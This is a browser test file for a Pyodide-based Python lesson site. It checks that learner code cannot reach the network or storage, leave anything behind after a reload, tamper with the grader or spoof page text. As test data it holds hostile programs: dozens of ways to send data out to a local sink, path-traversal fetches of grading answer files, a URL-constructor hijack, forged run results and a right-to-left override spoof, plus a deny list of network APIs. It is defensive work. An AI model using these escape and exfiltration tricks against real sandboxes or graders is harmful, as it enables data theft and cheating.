"""What learner code can reach, by class: the network, storage, anything that outlives a reload, the grader (through
the data it reads), the page's text (through direction controls). Issue 34.

Each test tries a whole class of ways in, not one: every network and storage API a worker has, reached by name
through Pyodide's ``js`` module, through prototype chains and constructors, through Pyodide's own API object and
modules, from a Run, a Check and code run while the page still loads. A second local origin (``sink``) listens for
anything that leaves; the page's request log shows what reached the site. The layers are tested apart too: the
service worker and the workers' content security policy hold against a learner worker that still had ``fetch``.
"""

from __future__ import annotations

import json
import re
import shutil
import socket
import sys
import threading
import time
from pathlib import Path

import pytest

from graders.hosts import pyodide as bridge
from werkbank import offline
from werkbank.lessons import load_lesson

from tests.conftest import SAVE_DATA
from tests.browser.helpers import (
    LESSON,
    check,
    drive_workers,
    final,
    open_lesson,
    poll,
    protocol_schema,
    replace_code,
    run,
    section,
    wait_ready,
)

pytestmark = pytest.mark.browser

REFERENCE = load_lesson(LESSON).checkpoint("1").solution()
STARTER = load_lesson(LESSON).checkpoint("1").starter("en")
CLEAN_TAIL = "\n\ndef claim_support(claims, facts):\n    return []\n"
CRASHED = "Python crashed and was restarted"


# ---------------------------------------------------------------- a second origin that records every connection


class Sink:
    """A TCP listener on a free loopback port: every connection (HTTP, WebSocket, anything) is recorded."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.origin = f"http://127.0.0.1:{self.port}"
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.server.accept()
            except OSError:
                return
            with conn:
                try:
                    conn.settimeout(2)
                    first = conn.recv(4096).split(b"\r\n", 1)[0].decode("latin-1")
                    conn.sendall(
                        b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\n"
                        b"Cross-Origin-Resource-Policy: cross-origin\r\nContent-Length: 2\r\n\r\nok"
                    )
                except OSError as error:
                    first = f"(connection: {error})"
                self.hits.append(first)


@pytest.fixture(scope="module")
def sink():
    listener = Sink()
    yield listener
    listener.server.close()


# ---------------------------------------------------------------- hostile programs

#: Tries every way to the network a learner worker could have. Prints "refused <way>" for each that raised at once
#: and "REACHED <way>" for each that did not; then walks every object reachable from the worker's global scope and
#: from Pyodide's API object (prototype chains included, through property descriptors, so no getter runs) and
#: prints "FOUND <path>" for any network, storage or loader member it meets. Deferred attempts (a timer, an asyncio
#: task, a promise callback) run after the program: what reaches the network shows as a hit on the sink or a request.
NETWORK = r'''
import js, sys, asyncio, pyodide_js
from pyodide.ffi import create_proxy, to_js
SINK = "{sink}"
GRADING = "../grading/{lesson}.json"
SNEAKY = "../pyodide/..%2fgrading/{lesson}.json"
G = js.self
proto = js.Object.getPrototypeOf

def obj(d):
    return to_js(d, dict_converter=js.Object.fromEntries)

def on_chain(o, name):
    """The first object of o's prototype chain that has `name` as its own member, as its value."""
    while o is not None:
        d = js.Reflect.getOwnPropertyDescriptor(o, name)
        if d is not None:
            value = getattr(d, "value", None)  # (an accessor's descriptor has none: Pyodide raises)
            return value if value is not None else d.get.call(G)
        o = proto(o)
    raise AttributeError(name)

def keep(text):
    G.leaked = str(text)[:200]

def grab(url):
    return js.fetch(url).then(create_proxy(lambda r: r.text())).then(create_proxy(keep))

attempts = {{
    "fetch": lambda: js.fetch(SINK + "/fetch"),
    "fetch (sneaky path)": lambda: grab(SNEAKY),
    "fetch on a prototype": lambda: on_chain(G, "fetch").call(G, SINK + "/proto"),
    "XMLHttpRequest": lambda: (lambda x: (x.open("GET", GRADING, False), x.send(), keep(x.responseText)))(js.XMLHttpRequest.new()),
    "WebSocket": lambda: js.WebSocket.new(SINK.replace("http", "ws") + "/ws"),
    "EventSource": lambda: js.EventSource.new(SINK + "/es"),
    "WebTransport": lambda: js.WebTransport.new("https://127.0.0.1:{sink_port}/wt"),
    "sendBeacon": lambda: G.navigator.sendBeacon(SINK + "/beacon", "x"),
    "FontFace": lambda: js.FontFace.new("f", f"url({{SINK}}/font)").load(),
    "fonts": lambda: on_chain(G, "fonts").load("10px f"),
    "FontFace from a prototype": lambda: on_chain(G, "FontFace").new("g", f"url({{SINK}}/font2)").load(),
    "importScripts": lambda: js.importScripts(SINK + "/s.js"),
    "Worker": lambda: js.Worker.new(SINK + "/w.js"),
    "Worker from a Blob": lambda: js.Worker.new(js.URL.createObjectURL(js.Blob.new([f"fetch('{{SINK}}/blob')"]))),
    "SharedWorker": lambda: js.SharedWorker.new(SINK + "/shared.js"),
    "serviceWorker": lambda: G.navigator.serviceWorker.register("x.js"),
    "Notification": lambda: js.Notification.new("x", obj({{"icon": SINK + "/icon.png"}})),
    "BroadcastChannel": lambda: js.BroadcastChannel.new("werkbank").postMessage("x"),
    "RTCPeerConnection": lambda: js.RTCPeerConnection.new(obj({{"iceServers": [obj({{"urls": "stun:127.0.0.1:{sink_port}"}})]}})),
    "OffscreenCanvas": lambda: js.OffscreenCanvas.new(1, 1).getContext("2d"),
    "createImageBitmap": lambda: G.createImageBitmap(js.ImageData.new(1, 1)),
    "Request + Cache": lambda: G.caches.open("x").then(create_proxy(lambda c: c.add(SINK + "/cache"))),
    "storageBuckets Cache": lambda: G.navigator.storageBuckets.open("b").then(create_proxy(lambda b: b.caches.open("c"))),
    "WebAssembly.compileStreaming": lambda: js.WebAssembly.compileStreaming(js.fetch(SINK + "/w.wasm")),
    "eval import()": lambda: js.eval(f"import('{{SINK}}/eval.js')"),
    "Function import()": lambda: js.Function.new(f"return import('{{SINK}}/f.js')")(),
    "fn.constructor": lambda: js.setTimeout.constructor.new(f"fetch('{{SINK}}/ctor')")(),
    "async fn.constructor": lambda: proto(pyodide_js.runPythonAsync).constructor(f"await fetch('{{SINK}}/actor')")(),
    "setTimeout string": lambda: js.setTimeout(f"fetch('{{SINK}}/timer')", 0),
    "setInterval string": lambda: js.setInterval(f"fetch('{{SINK}}/interval')", 1000),
    "pyodide.loadPackage": lambda: pyodide_js.loadPackage(SINK + "/p-1.0-py3-none-any.whl"),
    "pyodide._api.loadScript": lambda: pyodide_js._api.loadScript(SINK + "/api.js"),
    "pyodide._module": lambda: pyodide_js._module.FS,
    "pyodide.mountNativeFS": lambda: pyodide_js.mountNativeFS("/n", None),
    "micropip": lambda: __import__("micropip").install(SINK + "/m-1.0-py3-none-any.whl"),
    "pyodide.http.pyfetch": lambda: __import__("pyodide.http", fromlist=["x"]).pyfetch(SINK + "/pyfetch").send(None),
    "pyodide.http.open_url": lambda: __import__("pyodide.http", fromlist=["x"]).open_url(GRADING),
    "pyodide.code.run_js": lambda: __import__("pyodide.code", fromlist=["x"]).run_js(f"fetch('{{SINK}}/run_js')"),
    "postMessage to the page": lambda: on_chain(G, "postMessage").call(G, "x"),
    "listen to the page": lambda: on_chain(G, "addEventListener").call(G, "message", create_proxy(lambda e: None)),
}}
for name, attempt in attempts.items():
    try:
        attempt()
        print("REACHED", name)
    except BaseException as e:
        print("refused", name, type(e).__name__)

from pyodide.ffi import JsProxy
DENY = {deny}
seen = js.Set.new()
queue = [(G, "self"), (pyodide_js, "pyodide_js"), (js.navigator, "navigator")]
# and every JavaScript object Python's module table holds (a module imported from the API object before the lockdown)
queue += [(m, f"sys.modules[{{n!r}}]") for n, m in list(sys.modules.items()) if isinstance(m, JsProxy) and n not in ("js", "pyodide_js")]
found = []
while queue and seen.size < {scan}:
    o, path = queue.pop()
    if not isinstance(o, JsProxy) or seen.has(o) or path.count(".") > 6 or ".FS." in path:
        continue
    seen.add(o)
    try:
        keys = [k for k in js.Reflect.ownKeys(o) if isinstance(k, str)]
    except Exception:
        continue
    for key in keys:
        try:
            d = js.Reflect.getOwnPropertyDescriptor(o, key)
            value = getattr(d, "value", None)
            getter = getattr(d, "get", None)
        except Exception:
            continue
        native = "[native code]" in str(getter) or (isinstance(value, JsProxy) and callable(value) and "[native code]" in str(value))
        if key in DENY and (native or key.startswith("_") or key.startswith("load")):
            found.append(path + "." + key)
        queue.append((value, path + "." + key))
    queue.append((proto(o), path + ".[[Prototype]]"))
print("FOUND" if found else "found nothing", sorted(set(found))[:20], "in", seen.size, "objects")

def later(*args, _js=js, _self=G, _sink=SINK, _sneaky=SNEAKY, _proxy=create_proxy):
    # self-contained: the runner clears this module's namespace when the run ends, before this runs
    def keep(text):
        _self.leaked = str(text)[:200]
    ways = (
        ("fetch", lambda: _js.fetch(_sink + "/later")),
        ("fetch (sneaky path)", lambda: _js.fetch(_sneaky).then(_proxy(lambda r: r.text())).then(_proxy(keep))),
        ("FontFace", lambda: _js.FontFace.new("later", f"url({{_sink}}/later-font)").load()),
        ("XMLHttpRequest", lambda: _js.XMLHttpRequest.new()),
    )
    for name, go in ways:
        try:
            go()
            _self.leaked = "REACHED later " + name
        except BaseException:
            pass

js.setTimeout(create_proxy(later), 0)
js.Promise.resolve(1).then(create_proxy(later))
async def task(_later=later, _sleep=asyncio.sleep):
    await _sleep(0.05)
    _later()
asyncio.ensure_future(task())
'''

DENY = sorted(
    {
        "fetch",
        "XMLHttpRequest",
        "WebSocket",
        "EventSource",
        "WebTransport",
        "importScripts",
        "Worker",
        "SharedWorker",
        "FontFace",
        "fonts",
        "caches",
        "indexedDB",
        "storage",
        "storageBuckets",
        "locks",
        "sendBeacon",
        "serviceWorker",
        "BroadcastChannel",
        "Notification",
        "RTCPeerConnection",
        "webkitRequestFileSystem",
        "postMessage",
        "OffscreenCanvas",
        "createImageBitmap",
        "loadPackage",
        "loadScript",
        "loadBinaryFile",
        "loadDynlib",
        "loadDynlibsFromPackage",
        "_api",
        "_module",
    }
)


def network_program(sink, lesson=LESSON, scan=4000):
    """NETWORK for `sink`; `scan`: how many objects its walk looks at, at most (0: no walk)."""
    return NETWORK.format(sink=sink.origin, sink_port=sink.port, lesson=lesson, deny=repr(set(DENY)), scan=scan)


def attempt_count():
    return NETWORK.count('": lambda')


def assert_all_refused(out, scanned=True):
    assert "REACHED" not in out and "FOUND" not in out, out
    assert "found nothing" in out or not scanned, out
    refused = [line for line in out.splitlines() if line.startswith("refused ")]
    assert len(refused) == attempt_count(), out


#: Writes to every store a worker could have; prints "refused <store>" or "REACHED <store>" for each. Callbacks
#: (IDBFS's syncfs) report into `js.self.stored`.
STORAGE = r"""
import js, pyodide_js
from pyodide.ffi import create_proxy, to_js


def ways(js=js, pyodide_js=pyodide_js, create_proxy=create_proxy, to_js=to_js):
    # everything through closures: the runner clears this module's namespace when the run ends, before the
    # promise callbacks run
    G = js.self
    proto = js.Object.getPrototypeOf

    def on_chain(target, name):
        o = target
        while o is not None:
            d = js.Reflect.getOwnPropertyDescriptor(o, name)
            if d is not None:
                value = getattr(d, "value", None)  # (an accessor's descriptor has none: Pyodide raises)
                return value if value is not None else d.get.call(target)
            o = proto(o)
        raise AttributeError(name)

    def nav(name):
        return on_chain(G.navigator, name)

    def keep(*args):
        G.stored = "written"

    def options(**kw):
        return to_js(kw, dict_converter=js.Object.fromEntries)

    def write_opfs():
        into = create_proxy(lambda root: root.getFileHandle("learner.txt", options(create=True)))
        writable = create_proxy(lambda handle: handle.createWritable())
        write = create_proxy(lambda w: w.write("learner was here").then(create_proxy(lambda _: w.close())))
        return nav("storage").getDirectory().then(into).then(writable).then(write).then(create_proxy(keep))

    def idbfs():
        errors = []
        FS = pyodide_js.FS
        FS.mkdirTree("/persist")
        FS.mount(FS.filesystems.IDBFS, options(), "/persist")
        with open("/persist/learner.txt", "w") as f:
            f.write("learner was here")
        FS.syncfs(False, create_proxy(lambda err=None: errors.append(err)))
        if not errors or errors[0] is not None:
            raise OSError(f"syncfs: {errors}")

    def opened(request):
        request.onsuccess = create_proxy(keep)
        return request

    return {
        "origin-private file system": write_opfs,
        "storageBuckets": lambda: nav("storageBuckets").open("learner").then(create_proxy(
            lambda b: opened(b.indexedDB.open("learner")))),
        "caches": lambda: on_chain(G, "caches").open("learner").then(create_proxy(lambda c: c.add("../index.html"))),
        "indexedDB": lambda: opened(on_chain(G, "indexedDB").open("learner")),
        "IDBFS syncfs": idbfs,
        "webkitRequestFileSystem": lambda: on_chain(G, "webkitRequestFileSystem")(1, 1024, create_proxy(keep)),
        "locks": lambda: nav("locks").request("learner", create_proxy(lambda lock: js.Promise.new(create_proxy(lambda r, j: None)))),
        "BroadcastChannel": lambda: js.BroadcastChannel.new("learner").postMessage("x"),
        "cookieStore": lambda: on_chain(G, "cookieStore").set("learner", "x"),
    }


for name, attempt in ways().items():
    try:
        attempt()
        print("REACHED", name)
    except BaseException as e:
        print("refused", name, type(e).__name__)
"""


def storage_program():
    return STORAGE


STORAGE_ATTEMPTS = len(re.findall(r'^        "[^"]+": ', STORAGE, re.M))


#: What the page's origin holds in storage that learner code could have written (the site itself keeps its
#: progress in localStorage, and the service worker its caches named "werkbank-...").
ORIGIN_STORAGE = """async () => {
    const found = [];
    try {
        const root = await navigator.storage.getDirectory();
        for await (const name of root.keys()) found.push("opfs:" + name);
    } catch (e) { found.push("opfs unreadable: " + e.name); }
    if (indexedDB.databases) for (const db of await indexedDB.databases()) found.push("idb:" + db.name);
    for (const name of await caches.keys()) if (!name.startsWith("werkbank-")) found.push("cache:" + name);
    if (navigator.storageBuckets) for (const name of await navigator.storageBuckets.keys()) found.push("bucket:" + name);
    return found;
}"""


# ---------------------------------------------------------------- one shared page per server (service workers blocked)


@pytest.fixture(scope="module")
def pages(browser, request):
    made = {}

    def get(name):
        if name not in made:
            server = request.getfixturevalue(name)
            context = browser.new_context(service_workers="block")
            urls = []
            context.on("request", lambda r: urls.append(r.url))
            page = context.new_page()
            page.set_default_timeout(120_000)
            page.urls = urls
            page.server = server
            open_lesson(page, server)
            made[name] = (context, page)
        page = made[name][1]
        wait_ready(page)
        return page

    yield get
    for context, _ in made.values():
        context.close()


def foreign_or_hidden(page, since, lesson=LESSON, graders=0):
    """Requests made since index `since` that left the site, or asked for a grading file (beyond the `graders`
    requests of each of its own files the grader workers make: the lesson's bundle and its prepared Checks in the
    page's language) or for an odd path."""
    odd = []
    base = f"{page.server.origin}/grading/{lesson}"
    allowed = {f"{base}.json": graders, f"{base}.en.checks": graders}
    for url in page.urls[since:]:
        if allowed.get(url, 0) > 0:
            allowed[url] -= 1
        elif not url.startswith(page.server.origin + "/") and not url.startswith(("data:", "blob:")):
            odd.append(url)
        elif "grading/" in url and not url.endswith("/grading/engine.json") or "%2f" in url.lower() or "/../" in url:
            odd.append(url)
    return odd


# ---------------------------------------------------------------- network


@pytest.mark.parametrize("server_name", ["isolated_server", "plain_server"])
def test_learner_code_reaches_no_network(pages, server_name, sink):
    """Issue 34, finding 1 (FontFace, storageBuckets' Cache.add) as a class: from a Run and from a Check, by name,
    on prototype chains and through Pyodide's own modules, no way to the network is left, and nothing leaves the site
    (the plain host sends no policy: there the lockdown alone holds)."""
    page = pages(server_name)
    since = len(page.urls)
    code = network_program(sink)
    _, _, out = run(page, "1", code)
    assert_all_refused(out)
    # (what a deferred attempt would get stays in the Run's worker, which no later job uses: test_fresh_workers.py;
    # one that reached the network would be a hit or a request below)
    state, text, out, _ = check(page, network_program(sink, scan=0) + CLEAN_TAIL)  # (the walk: in the Run)
    assert state == "fail", text
    assert_all_refused(out, scanned=False)
    state, text, _, _ = check(page, REFERENCE)
    assert state == "pass", text  # and the next Check is judged as ever
    assert sink.hits == [], sink.hits
    assert foreign_or_hidden(page, since) == []


def test_code_run_while_the_page_loads_waits_for_the_lockdown(browser, plain_server, sink):
    """Issue 34, finding 2: a Run pressed as soon as the editors exist, while Python still loads, runs in a worker
    already locked down: no fetch is left to walk out of pyodide/ with "..%2f", now or from a callback later."""
    context, page = _run_while_python_loads(browser, plain_server, network_program(sink))
    try:
        out = section(page, "1").locator("[data-output]").inner_text()
        assert_all_refused(out)
        # the Run's worker lives at most RETIRE_MS (250 ms, runtime.js) after its run: a deferred attempt is made by now
        page.wait_for_timeout(1000)
        odd = foreign_or_hidden(page, 0, graders=1)  # the page's grader worker loads the lesson's files once
        assert sink.hits == [] and odd == [], (sink.hits, odd)
    finally:
        context.close()


def _run_while_python_loads(browser, server, code):
    """``(context, page)``: a first visit of ``server`` (no service worker, every request logged on ``page.urls``)
    where ``code`` is Run in checkpoint 1 as soon as the editors exist, while Python still loads (skipped when Python
    was ready first), and the Run has ended. The caller closes the context."""
    context = browser.new_context(service_workers="block")
    urls = []
    context.on("request", lambda r: urls.append(r.url))
    page = context.new_page()
    page.set_default_timeout(120_000)
    page.urls, page.server = urls, server
    try:
        open_lesson(page, server, ready=False)
        page.wait_for_selector('body[data-editors="ready"]', state="attached")
        if page.get_attribute("body", "data-runtime") == "ready":
            pytest.skip("Python was ready before the editors")
        replace_code(page, "1", code)
        section(page, "1").locator('button[data-action="run"]').first.click()
        poll(page, "() => document.querySelector('[data-checkpoint=\"1\"]').dataset.state === 'idle'")
    except BaseException:
        context.close()
        raise
    return context, page


#: Run while the worker still loads its packages (a Run starts once Python is usable, before numpy is in): replaces
#: the globals that loading code reads after the run (every `new URL(...)` now names the sink), then holds the thread
#: long enough for the worker's pending requests to answer, so its loading goes on the moment the run ends. It never
#: names the array package (a Run that does waits until everything is loaded).
STEER = r"""
import js
from pyodide.ffi import create_proxy, to_js

def to_object(d, _to_js=to_js, _js=js):
    return _to_js(d, dict_converter=_js.Object.fromEntries)

def construct(target, args, new_target, _object=to_object, _sink="{sink}"):
    # self-contained: the runner clears this module's namespace when the run ends, before this is called
    return _object({{"href": _sink + "/steered.whl", "pathname": "/steered.whl"}})

js.URL = js.Proxy.new(js.URL, to_object({{"construct": create_proxy(construct)}}))
start = js.performance.now()
while js.performance.now() - start < 3000:
    pass
print("steered")
"""


def test_code_run_while_python_loads_cannot_steer_the_workers_own_requests(browser, plain_server, sink):
    """A Run pressed while the page loads starts once Python is usable, while the learner worker still loads numpy
    (and the lesson's wheels) with the fetch it kept. That loading reads globals learner code can replace (URL,
    DataView, ...): with `URL` replaced, the worker's own next request went to another origin. As a class: once
    learner code has run in a worker, the worker's kept fetch refuses every request."""
    # the plain host's first visit, no service worker: the lockdown alone holds
    context, page = _run_while_python_loads(browser, plain_server, STEER.format(sink=sink.origin))
    try:
        assert "steered" in section(page, "1").locator("[data-output]").inner_text()
        wait_ready(page)  # later workers booted: the steered one had all that time to send anything
        state, text, _, _ = check(page, REFERENCE)
        assert state == "pass", text  # the page goes on as ever
        odd = foreign_or_hidden(page, 0, graders=1)
        assert sink.hits == [] and odd == [], (sink.hits, odd)
    finally:
        context.close()


# ---------------------------------------------------------------- storage


def test_learner_code_stores_nothing(pages):
    """Issue 34, finding 3 as a class: the origin-private file system, storage buckets, Cache Storage, IndexedDB
    (also through Pyodide's IDBFS), the old file system API, locks, broadcast channels, cookies: none is reachable
    from a Run or a Check, and the origin holds nothing learner code wrote."""
    page = pages("isolated_server")
    code = storage_program()
    _, _, out = run(page, "1", code)
    assert "REACHED" not in out and out.count("refused ") == STORAGE_ATTEMPTS, out
    state, text, out, _ = check(page, code + CLEAN_TAIL)
    assert state == "fail" and "REACHED" not in out, (text, out)
    _, _, later = run(page, "1", "import js\nprint('stored:', getattr(js.self, 'stored', None))\n")
    assert "stored: None" in later, later
    assert page.evaluate(ORIGIN_STORAGE) == []


def test_nothing_learner_code_writes_outlives_a_reload(pages):
    """Issue 34, finding 3 (a file in the origin-private file system survived a reload): after a Run and a Check that
    write everywhere they can, and a reload, learner code finds nothing of it and the origin's storage is empty."""
    page = pages("isolated_server")
    code = storage_program() + (
        "import os\nos.makedirs('/home/pyodide/keep', exist_ok=True)\n"
        "open('/home/pyodide/keep/learner.txt', 'w').write('x')\n"
    )
    run(page, "1", code)
    for _ in range(3):  # a write that was allowed finishes after its run: give it a few runs' time
        _, _, out = run(page, "1", "import js\nprint('stored:', getattr(js.self, 'stored', None))\n")
        if "stored: None" not in out:
            break
    state, text, _, _ = check(page, code + CLEAN_TAIL)
    assert state == "fail", text
    page.reload()
    wait_ready(page)
    assert page.evaluate(ORIGIN_STORAGE) == []
    reader = (
        "import os, js\n"
        "print('files:', [p for p in ('/home/pyodide/keep', '/persist') if os.path.exists(p)])\n"
        "print('stored:', getattr(js.self, 'stored', None))\n"
    )
    _, _, out = run(page, "1", reader)
    assert "files: []" in out and "stored: None" in out, out


# ---------------------------------------------------------------- the layers behind the lockdown

PROBE_WORKER = """// a stand-in learner worker that kept fetch: what do the service worker and the policy let it have?
const sink = new URL(location.href).searchParams.get("sink");
const tries = {
  runtime: ["../pyodide/pyodide-lock.json", {}],
  engine: ["../grading/engine.json", {}],
  grading: ["../grading/%(lesson)s.json", {}],
  sneaky: ["../pyodide/..%%2fgrading/%(lesson)s.json", {}],
  dots: ["../pyodide/%%2e%%2e/grading/%(lesson)s.json", {}],
  page: ["../index.html", {}],
  post: ["../pyodide/pyodide-lock.json", { method: "POST", body: "x" }],
  foreign: [sink + "/probe", {}],
};
const out = {};
for (const [name, [url, init]] of Object.entries(tries)) {
  try {
    const response = await fetch(url, init);
    const text = await response.text();
    out[name] = response.ok ? "ok " + text.length : "status " + response.status;
  } catch (error) {
    out[name] = "refused";
  }
}
postMessage(out);
"""


@pytest.fixture(scope="module")
def probe_dist(dist, tmp_path_factory):
    """A copy of the site whose learner worker script is PROBE_WORKER (the build's offline step run again, so the
    service worker and _headers list it)."""
    copy = tmp_path_factory.mktemp("probe-dist")
    shutil.copytree(dist, copy, dirs_exist_ok=True)
    (copy / offline.LEARNER_WORKER).write_text(PROBE_WORKER % {"lesson": LESSON}, encoding="utf-8")
    offline.finish(copy)
    return copy


def wait_controlled(page, timeout=180.0):
    """Wait until the page is controlled by the service worker (a first visit reloads itself once meanwhile)."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        try:
            if page.evaluate("navigator.serviceWorker.controller !== null && crossOriginIsolated"):
                return
        except Exception:  # noqa: BLE001 - the page is reloading itself into isolation
            pass
        page.wait_for_timeout(100)
    raise AssertionError("the service worker never controlled the page")


def probe(page, origin, sink):
    return page.evaluate(
        """async (url) => {
        const worker = new Worker(url, { type: "module" });
        return await new Promise((resolve) => { worker.onmessage = (e) => resolve(e.data); });
    }""",
        f"{origin}/assets/worker.js?sink={sink.origin}",
    )


def assert_only_its_files(result, post="refused", same_origin=True):
    """``same_origin``: the layer also refuses the site's own files that are not the worker's (the service worker
    does; a worker's content security policy names the site's origin as a whole, see werkbank.offline.WORKER_CSP)."""
    assert result["runtime"].startswith("ok") and result["engine"].startswith("ok"), result
    for name in ("grading", "sneaky", "dots", "page", "foreign") if same_origin else ("foreign",):
        assert result[name] == "refused", (name, result)
    # a policy names URLs, not methods: there a POST to one of the worker's files reaches the (static) host
    assert result["post"] == post if post else not result["post"].startswith("ok"), result


@pytest.mark.parametrize("layer", ["service worker", "policy header"])
def test_a_learner_worker_gets_only_its_own_files(browser, probe_dist, server_factory, serve_cmd, sink, layer):
    """Issue 34, finding 2 as a class, behind the lockdown: a learner worker that had kept fetch gets, through the
    service worker (a plain host, once it controls the page), the runtime's files and engine.json and nothing else:
    not a lesson's grading file by any spelling of its path, no page, no POST, no other origin. The worker script's
    own content security policy (werkbank serve; hosts that read _headers) holds on its own against every other
    origin; it names the site's origin as a whole, since Firefox matches no path in a worker's policy."""
    sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "bench"))
    import sitekit

    context = browser.new_context(service_workers="allow" if layer == "service worker" else "block")
    context.add_init_script(SAVE_DATA)  # the page's own workers do not boot: only the probe's requests matter
    page = context.new_page()
    page.set_default_timeout(120_000)
    before = len(sink.hits)
    try:
        if layer == "service worker":
            with sitekit.serve(probe_dist) as origin:
                page.goto(f"{origin}/en/index.html")
                wait_controlled(page)
                assert_only_its_files(probe(page, origin, sink))
        else:
            server = server_factory(serve_cmd(probe_dist))
            page.goto(f"{server.origin}/en/index.html")
            assert_only_its_files(probe(page, server.origin, sink), post=None, same_origin=False)
    finally:
        context.close()
    assert sink.hits[before:] == []


# ---------------------------------------------------------------- the grader reads learner data

#: Sends the grader worker drive_workers started a run result of `size` characters of output, made in the page.
JUDGE_LARGE = """async ({ where, schema, size }) => {
    const grader = globalThis.__werkbankWorkers.grader;
    const runId = Array.from(crypto.getRandomValues(new Uint8Array(16)), (b) => b.toString(16).padStart(2, "0")).join("");
    const runJson = JSON.stringify({ status: "ok", stdout: "x".repeat(size), stderr: "", outcomes: [] });
    return await new Promise((resolve) => {
        const listen = (event) => {
            const data = event.data;
            if (!data || data.runId !== runId || !["verdict", "failure"].includes(data.type)) return;
            grader.removeEventListener("message", listen);
            resolve({ type: data.type, verdict: data.verdict, message: data.message });
        };
        grader.addEventListener("message", listen);
        grader.postMessage({ ...where, type: "judge", runJson, schema, runId });
    });
}"""


def test_the_grader_survives_any_run_data(save_data_page, isolated_server, repo_root):
    """Issue 34, finding 6 as a class: run results claiming an array of 10**6 dimensions, nesting a million deep,
    carrying output or a traceback past the limits, or 40 MB long, each get an error verdict from the grader worker
    (no failure, no crash), and the same grader judges the reference right afterwards. (The page's own workers do not
    boot: ``save_data_page``; the test drives workers of its own.)"""
    page = save_data_page
    page.goto(isolated_server.url + "en/index.html")
    where = {"lessonId": LESSON, "checkpoint": "1", "seed": 11, "lang": "en"}
    boot, prepared = drive_workers(
        page,
        isolated_server,
        repo_root,
        [
            {"to": "grader", "message": {"type": "init", "lessonId": LESSON}, "finals": ["ready", "failure"]},
            {"to": "grader", "message": {"type": "prepare", **where}, "finals": ["prepared", "failure"]},
        ],
    )
    plan = final(prepared)["plan"]
    case = json.loads(plan)["cases"][0]["id"]

    def run_json(outcomes=(), **fields):
        base = {
            "status": "ok",
            "stdout": "",
            "stderr": "",
            "truncated": False,
            "traceback": None,
            "error_line": None,
            "exit_code": None,
            "outcomes": list(outcomes),
        }
        return json.dumps({**base, **fields})

    array = {
        "id": case,
        "kind": "return",
        "warnings": [],
        "mutated": False,
        "value": ["ndarray", "float64", "f", [1] * 10**6, [1.0]],
    }
    hostile = {
        "a million dimensions": run_json([array]),
        "nested JSON": "[" * 10**6 + "]" * 10**6,
        "nested inside a run": '{"status": "ok", "outcomes": ' + "[" * 10**5 + "]" * 10**5 + "}",
        "a long traceback": run_json(status="error", traceback="t" * 1_000_000),
        "output past the limit": run_json(stdout="x" * 1_000_000),
    }
    for name, data in hostile.items():
        (judged,) = drive_workers(
            page,
            isolated_server,
            repo_root,
            [
                {
                    "to": "grader",
                    "message": {"type": "judge", **where, "runJson": data},
                    "finals": ["verdict", "failure"],
                    "timeoutMs": 60_000,
                }
            ],
        )
        verdict = final(judged)["verdict"]
        assert verdict["status"] == "error" and len(json.dumps(verdict)) < 10_000, (name, verdict)
    # larger than the judge reads (made in the page: handing 40 MB to it from here takes Playwright most of a minute)
    answer = page.evaluate(JUDGE_LARGE, {"where": where, "schema": protocol_schema(repo_root), "size": 40_000_000})
    assert answer["type"] == "verdict" and answer["verdict"]["status"] == "error", answer
    # the learner worker's own entry point, in CPython: the same JSON
    reference = bridge.run_encoded(REFERENCE, plan.encode("utf-8")).decode("utf-8")
    (judged,) = drive_workers(
        page,
        isolated_server,
        repo_root,
        [
            {
                "to": "grader",
                "message": {"type": "judge", **where, "runJson": reference},
                "finals": ["verdict", "failure"],
            }
        ],
    )
    assert final(judged)["verdict"]["status"] == "pass"


#: Checks whose code reaches for its own run result from inside through the collector, as learner code once could
#: (to make its first outcome an array claiming 10**5 dimensions, or to put a megabyte into the output buffer past
#: the limit the runner keeps to): the guard refuses the collector's list to code a Check runs.
FORGE_RESULT = r"""
import gc
_array = ["ndarray", "float64", "f", [1] * 10**5, [1.0]]

def claim_support(claims, facts):
    for run in (o for o in gc.get_objects() if type(o) is dict and "outcomes" in o and "stdout" in o):
        for outcome in run["outcomes"][:1]:
            outcome["kind"], outcome["value"] = "return", _array
    return []
"""
FORGE_OUTPUT = r"""
import gc
for o in gc.get_objects():
    if type(o).__name__ == "OutputSink":
        o.parts["stdout"].append("x" * 1_000_000)

def claim_support(claims, facts):
    return []
"""


@pytest.mark.parametrize("code", [FORGE_RESULT, FORGE_OUTPUT], ids=["100000-dimensions", "output-past-the-limit"])
def test_code_that_reaches_for_its_run_result_is_refused_and_the_page_keeps_its_grader(pages, code):
    """From the page: the collector's list is refused to the Check's code (a fail or an error that says so, never a
    pass), the page keeps its grader (no "Python crashed"), and the starter still fails and the reference still
    passes after it. What the grader does with a forged result that reached it: the test above."""
    page = pages("isolated_server")
    state, text, out, _ = check(page, code)
    assert state in ("fail", "error") and CRASHED not in text, text
    assert "RuntimeError" in text and "while a Check runs your code" in text + out, (text, out)
    assert page.locator('[data-warning="runtime_crashed"]').count() == 0
    state, text, _, _ = check(page, STARTER)
    assert state == "fail", text
    state, text, _, _ = check(page, REFERENCE)
    assert state == "pass", text


# ---------------------------------------------------------------- direction controls in learner text

RLO = "\u202e"
# (Python refuses U+202E in an identifier, not in a class's name)
BIDI = (
    "Bad = type('Bad\\u202eError', (Exception,), {})\n\n"
    "def claim_support(claims, facts):\n    raise Bad('\\u202egnol oot')\n"
)

LAYOUT = """(sel) => {
    const box = document.querySelector(sel);
    const title = box.querySelector('.python-error-title');
    const isolated = [...title.querySelectorAll('bdi')];
    const named = isolated.find((b) => b.textContent.includes('Error'));
    // every piece of the page's own text in the title: outside any <bdi>
    const walker = document.createTreeWalker(title, NodeFilter.SHOW_TEXT);
    const own = [];
    for (let n = walker.nextNode(); n; n = walker.nextNode()) if (!n.parentElement.closest('bdi')) own.push(n);
    const after = own.find((n) => named && (named.compareDocumentPosition(n) & Node.DOCUMENT_POSITION_FOLLOWING));
    const range = document.createRange();
    if (after) range.selectNodeContents(after);
    return {
        isolation: named ? getComputedStyle(named).unicodeBidi : null,
        nameRight: named ? named.getBoundingClientRect().right : null,
        afterLeft: after ? range.getBoundingClientRect().left : null,
        afterText: after ? after.textContent : null,
